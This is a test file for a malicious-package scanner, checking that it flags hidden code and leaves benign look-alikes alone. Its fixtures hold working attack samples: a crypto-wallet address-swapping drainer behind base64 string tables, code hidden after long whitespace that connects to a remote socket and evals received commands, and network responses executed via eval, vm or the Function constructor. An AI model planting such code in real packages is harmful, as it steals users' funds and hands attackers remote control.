// Issue 24, round s25-pkgruntime: IN-SAMPLE for the twenty-fifth held-out set (written from its class descriptions).
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { addressHijackFinding } from './code/address-hijack.js';
import { analyzePackage } from './packages/analyze-package.js';

const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);
const manifest = JSON.stringify({ name: 'util-kit', version: '1.0.0', main: 'index.js' });
const b64 = (s: string) => Buffer.from(s).toString('base64');
const ADDRS = "['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222', '0x3333333333333333333333333333333333333333']";

describe('browser drainer behind a string table and aliases of the global object', () => {
  it('reads an arrow decoder and an alias of window (CRIT)', () => {
    const table = ['fetch', 'XMLHttpRequest', 'prototype', 'send', 'ethereum', 'request'].map((s) => `'${b64(s)}'`).join(', ');
    const code = [
      `const T = [${table}];`,
      'const d = (i) => atob(T[i - 16]);',
      `const L = ${ADDRS};`,
      "const re = new RegExp('0x[0-9a-f]{40}', 'gi');",
      'const root = typeof window !== "undefined" ? window : globalThis;',
      'const orig = root[d(16)];',
      'root[d(16)] = (...a) => orig(...a).then((r) => r.text().then((t) => new Response(t.replace(re, () => L[0]))));',
      'const proto = root[d(17)][d(18)]; const s = proto[d(19)]; proto[d(19)] = function (b) { return s.call(this, String(b).replace(re, () => L[1])); };',
    ].join('\n');
    expect(addressHijackFinding('index.js', code)?.severity).toBe('CRIT');
  });
  it('reads a table read in place with Buffer.from(T[n], "base64")', () => {
    const table = ['fetch', 'solana', 'ethereum', 'request', 'text'].map((s) => `"${b64(s)}"`).join(',');
    const code = `var S=[${table}];var g=typeof globalThis!=="undefined"?globalThis:window;var L=${ADDRS};function similarity(a,b){return a.length-b.length}var R=/0x[0-9A-Fa-f]{40}/g;var e=g[Buffer.from(S[2],'base64').toString()];var q=e[Buffer.from(S[3],'base64').toString()];e[Buffer.from(S[3],'base64').toString()]=function(x){return q(JSON.parse(JSON.stringify(x).replace(R,function(a){return L.sort(function(u,v){return similarity(a,u)-similarity(a,v)})[0]})))};`;
    expect(addressHijackFinding('index.js', code)?.severity).toBe('CRIT');
  });
  it('leaves a fetch polyfill installed through an alias beside an address validator alone', () => {
    const code = "const root = typeof globalThis !== 'undefined' ? globalThis : window;\nif (!root.fetch) root.fetch = require('cross-fetch');\nconst ETH = /^0x[0-9a-fA-F]{40}$/;\nfunction levenshtein(a, b) { return Math.min(a.length + 1, b.length + 1, 0); }\n";
    expect(addressHijackFinding('index.js', code)).toBeNull();
  });
});

describe('code off screen, socket commands and hidden home folders', () => {
  it('raises code after a long run of whitespace that runs code to CRIT and follows socket events into eval', async () => {
    const code = `module.exports = (n) => n;${' '.repeat(2400)}global['r'] = require; const os = global['r']('os'); const path = global['r']('path'); const cp = global['r']('child_process'); const dir = path.join(os.homedir(), '.npm-cache2'); cp.execSync('npm install socket.io-client --prefix ' + dir); const io = global['r'](path.join(dir, 'node_modules', 'socket.io-client')); const s = io('http://203.0.113.5:3000'); s.on('run', (m) => eval(m));\n`;
    const t = titles(await pkg({ 'package.json': manifest, 'index.js': code }));
    expect(t).toContain('CRIT Code hidden after a long run of whitespace on a line');
    expect(t).toContain('CRIT Executes code received from the network');
    expect(t).toContain('HIGH Installs packages into a hidden folder of the home directory');
  });
  it('follows a WebSocket onmessage handler into vm', async () => {
    const code = "const vm = require('vm'); const WS = require('ws');\nconst sock = new WS('wss://relay.example/c');\nsock.onmessage = (ev) => vm.runInThisContext(String(ev.data));\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('leaves a chat client that parses socket messages and a trailing comment alone', async () => {
    const code = `const { io } = require('socket.io-client');\nconst x = 1;${' '.repeat(200)}// aligned note\nconst s = io('https://chat.example.com');\ns.on('message', (m) => console.log(JSON.parse(m)));\n`;
    expect((await pkg({ 'package.json': manifest, 'index.js': code })).verdict).toBe('ALLOW');
  });
});

describe('payload in an HTTP error body run by the Function constructor', () => {
  it('taints a promise rejection handler and resolves Function.prototype.constructor', async () => {
    const code = "const axios = require('axios');\naxios.get('https://cfg.example/v').catch((err) => { new (Function.prototype.constructor)('require', err.response.data)(require); });\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('taints a catch clause around a request made through a local function, and an arrow\'s constructor', async () => {
    const code = "function call(u) { return fetch(u); }\nasync function go() {\n  try { const r = await call('https://s.example/p'); if (!r.ok) throw r; }\n  catch (e) { const body = await e.text(); (() => {}).constructor(body)(); }\n}\ngo();\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('leaves logging of the error body and a constant template alone', async () => {
    const code = "const axios = require('axios');\nconst greet = new Function('n', 'return n');\nexports.get = async (u) => { try { return (await axios.get(u)).data; } catch (err) { console.error(err.response && err.response.data); throw err; } };\nexports.isAsync = (f) => f.constructor.name === 'AsyncFunction';\n";
    expect((await pkg({ 'package.json': manifest, 'index.js': code })).findings.filter((f) => f.severity !== 'LOW')).toEqual([]);
  });
});

describe('review: catch parameters, off-screen reach and alias scope', () => {
  it('keeps a catch parameter to its catch body (another `e` of the function is not network data)', async () => {
    const code = [
      "const cfg = require('./cfg.json');",
      'async function load(u) {',
      '  try { await fetch(u); } catch (e) { console.error(e); }',
      '  const e = cfg.entry;',
      '  const run = new Function(`return ${e}`);',
      '  try { await fetch(u + "/2"); } catch (e) { console.warn(e.message); }',
      '  return run;',
      '}',
      'function other() { try { JSON.parse("{}"); } catch (err) { return null; } const err = cfg.expr; return eval(err); }',
      'module.exports = { load, other };',
    ].join('\n');
    const t = titles(await pkg({ 'package.json': manifest, 'index.js': code, 'cfg.json': '{}' }));
    expect(t).not.toContain('CRIT Executes code received from the network');
  });
  it('still follows a catch parameter into a nested function of its body', async () => {
    const code = "async function go() {\n  try { await fetch('https://s.example/p'); }\n  catch (e) { const e2 = 1; setTimeout(() => { eval(e.response.data); }, e2); }\n}\ngo();\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('reads the catch parameter where a parameter of the function has its name', async () => {
    const code = "async function f(e) { try { await fetch(e); } catch (e) { eval(e.response.data); } }\nf('https://x.example/a');\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('leaves a function inside the catch body that binds the name again alone', async () => {
    const code = "async function f(u) { try { await fetch(u); } catch (e) { console.error(e.message); ['1 + 1'].forEach((e) => eval(e)); } }\nf('https://x.example/a');\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).not.toContain('CRIT Executes code received from the network');
  });
  it('keeps a `var` declared in a catch body to its function', async () => {
    const code = "async function go() {\n  try { await fetch('https://s.example/p'); }\n  catch (e) { var body = e.response.data; }\n  eval(body);\n}\ngo();\n";
    expect(titles(await pkg({ 'package.json': manifest, 'index.js': code }))).toContain('CRIT Executes code received from the network');
  });
  it('judges only the text near a long whitespace run of a one-line bundle', async () => {
    const far = 'var a' + Array.from({ length: 400 }, (_, i) => `,v${i}=${i}`).join('') + ';';
    const code = `!function(){var css=\`.x{width:${' '.repeat(200)}calc(100% - 4px)}\`;var n=css.length;${far}var f=require("./util");fetch("/api/list").then(function(r){return r.json()});module.exports=n}();`;
    expect(code.indexOf('require(') - code.indexOf(' '.repeat(200))).toBeGreaterThan(2048);
    const t = titles(await pkg({ 'package.json': manifest, 'index.js': code, 'util.js': 'module.exports = 1;' }));
    expect(t).toContain('HIGH Code hidden after a long run of whitespace on a line');
    expect(t).not.toContain('CRIT Code hidden after a long run of whitespace on a line');
  });
  it('leaves a parameter named like a global alias in another function alone', () => {
    const code = [
      "const root = typeof window !== 'undefined' ? window : globalThis;",
      'const ADDRESS = /^0x[a-fA-F0-9]{40}$/;',
      `const BOOK = ${ADDRS};`,
      'function patch(root, wrapped) { root.fetch = wrapped; return root; }',
      'const api = patch({}, (u) => root.fetch(u));',
      'export function valid(a) { return ADDRESS.test(a) && !BOOK.includes(a); }',
      'export { api };',
    ].join('\n');
    expect(addressHijackFinding('index.js', code)).toBeNull();
  });
  it('still reads an alias assigned inside a function that does not rebind it', () => {
    const code = [
      "const root = typeof window !== 'undefined' ? window : globalThis;",
      "const re = new RegExp('0x[0-9a-f]{40}', 'gi');",
      `const L = ${ADDRS};`,
      'function install(list) { const orig = root.fetch; root.fetch = (...a) => orig(...a).then((r) => r.text().then((t) => new Response(t.replace(re, () => list[0])))); }',
      'install(L);',
    ].join('\n');
    expect(addressHijackFinding('index.js', code)?.severity).toBe('CRIT');
  });
});
